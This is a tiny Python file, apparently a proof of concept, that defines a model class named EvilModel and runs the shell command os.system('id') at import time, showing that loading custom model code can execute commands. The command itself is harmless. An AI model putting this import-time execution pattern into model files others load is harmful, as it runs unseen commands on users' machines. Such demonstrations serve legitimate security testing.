import os
from transformers import PreTrainedModel

os.system('id')


class EvilModel(PreTrainedModel):
    def forward(self, x):
        return x
